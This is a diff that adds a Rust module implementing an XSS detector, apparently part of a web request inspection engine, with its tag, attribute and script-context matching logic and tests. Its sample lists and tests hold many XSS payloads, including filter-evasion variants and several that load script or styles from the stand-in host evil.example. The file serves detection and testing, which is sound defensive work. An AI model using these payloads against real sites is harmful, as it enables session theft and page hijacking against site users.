@@ -1,0 +1,159 @@
+//! Cross-site scripting: markup, attributes, URLs and script that a browser would run, whatever context they land in.
+//!
+//! The value is read as HTML text ([`tag`]), as the inside of an attribute (a quote, then an event handler), and as
+//! the inside of a script ([`script`]). Handlers are any `on...` attribute of a tag, not a list.
+
+mod attribute;
+mod script;
+mod tag;
+
+use super::{Detector, Match, Samples, Subject};
+use crate::model::{AttackType, Chars, Confidence, Zone};
+use crate::normalize::fold;
+
+/// The line of the table.
+pub const DETECTOR: Detector = Detector {
+    name: "xss.grammar",
+    attack: AttackType::Xss,
+    about: "Markup or script that a browser would execute when the value is shown to it",
+    zones: Zone::PARAMETERS.with(Zone::HEADER),
+    gate,
+    run,
+    samples: Samples {
+        positive: &[
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=confirm`1`>",
+            "\" onfocus=alert(1) autofocus x=\"",
+            "<a href=\"java\tscript:alert(1)\">x</a>",
+            "javascript:alert(document.domain)",
+            "';alert(1)//",
+            "<iframe srcdoc='x'>",
+            "<x:script src=//evil.example></x:script>",
+            "<IMG STYLE='width:expression(alert(1))'>",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
+            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+            "`-alert(1)-`",
+            "＜script＞alert(1)＜/script＞",
+            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
+        ],
+        negative: &[
+            "a < b and c > d",
+            "<p class=\"lead\">Hello <b>world</b>, <a href=\"https://example.com/?on=1\">see</a></p>",
+            "JavaScript: The Good Parts (2008)",
+            "online = true; once upon a time",
+            "please confirm (by mail) and alert (if needed)",
+            "<img src=\"/static/logo.png\" alt=\"Logo\">",
+            "I <3 this; 5 > 4",
+            "javascript:void(0)",
+            "Alerts (2)",
+        ],
+    },
+};
+
+fn gate(chars: Chars) -> bool {
+    const MARKS: Chars = Chars::LT.with(Chars::EQUALS).with(Chars::LPAREN).with(Chars::BACKTICK).with(Chars::COLON);
+    chars.meets(MARKS) && chars.meets(Chars::ALPHA.with(Chars::LPAREN))
+}
+
+fn run(subject: &Subject<'_>) -> Option<Match> {
+    let found = find(subject.bytes, subject.chars);
+    if found.is_none()
+        && subject.chars.meets(Chars::HIGH)
+        && let std::borrow::Cow::Owned(folded) = fold::run(subject.bytes)
+    {
+        // Positions within the folded text mean nothing in the value: report the value.
+        return find(&folded, Chars::of(&folded)).map(|m| Match { start: 0, end: subject.bytes.len(), ..m });
+    }
+    found
+}
+
+/// The surest match in `text`.
+fn find(text: &[u8], chars: Chars) -> Option<Match> {
+    let mut best = None;
+    if chars.meets(Chars::LT) && keep(&mut best, tag::find(text)) {
+        return best;
+    }
+    if chars.meets(Chars::EQUALS) && keep(&mut best, attribute::outside_tag(text)) {
+        return best;
+    }
+    if chars.meets(Chars::COLON) && keep(&mut best, script::url_in(text)) {
+        return best;
+    }
+    if chars.meets(Chars::LPAREN.with(Chars::BACKTICK)) {
+        keep(&mut best, script::find(text));
+    }
+    best
+}
+
+/// Keeps the surer of both; true once nothing surer can come.
+fn keep(best: &mut Option<Match>, new: Option<Match>) -> bool {
+    if let Some(new) = new
+        && best.is_none_or(|old| new.confidence > old.confidence)
+    {
+        *best = Some(new);
+    }
+    best.is_some_and(|m| m.confidence == Confidence::High)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn high(text: &str) -> bool {
+        find(text.as_bytes(), Chars::of(text.as_bytes())).is_some_and(|m| m.confidence == Confidence::High)
+    }
+
+    #[test]
+    fn contexts_and_evasions() {
+        for text in [
+            "<ScRiPt\x0c>alert(1)</sCrIpT>",
+            "</title><svg/onload=alert(1)>",
+            "<<script>alert(1)//<</script>",
+            "<img \"\"\"><script>alert(1)</script>\">",
+            "<form action=vbscript:msgbox(1)>",
+            "x' onmouseover='alert(1)",
+            "<svg><animate onbegin=alert(1) attributeName=x>",
+            "<details open ontoggle=import('//evil.example')>",
+            "<base href=//evil.example>",
+            "<link rel=stylesheet href=//evil.example/x.css>",
+            "\"};alert(1);//",
+            "<style>@import'//evil.example';</style>",
+        ] {
+            assert!(high(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn markup_without_script_is_no_attack() {
+        for text in [
+            "<h1>Title</h1><ul><li>one</li></ul>",
+            "use `<script>` tags sparingly",
+            "if (a<b) { return on; }",
+            "call confirm() when done",
+            "Dear team, the alert (see above) fired",
+            "<input type=checkbox checked>",
+            "<button onClick={handleClick}>Go</button>",
+            "const x = 1; onChange is a prop",
+        ] {
+            assert!(!high(text), "{text}");
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn never_panics(text in r#"[<>/ a-z"'=`(){}\[\]:;on\\&#\x00\x0b-]{0,200}"#) {
+            if let Some(m) = find(text.as_bytes(), Chars::of(text.as_bytes())) {
+                proptest::prop_assert!(m.start <= m.end && m.end <= text.len());
+            }
+        }
+    }
+
+    #[test]
+    fn hostile_text_stays_linear() {
+        for unit in ["<a \"", "<a on", "onload=x ", "alert(", "javascript:", ":::::jjj", "<script>", "<style>"] {
+            let text = unit.repeat(400_000 / unit.len());
+            find(text.as_bytes(), Chars::of(text.as_bytes()));
+        }
+    }
+}
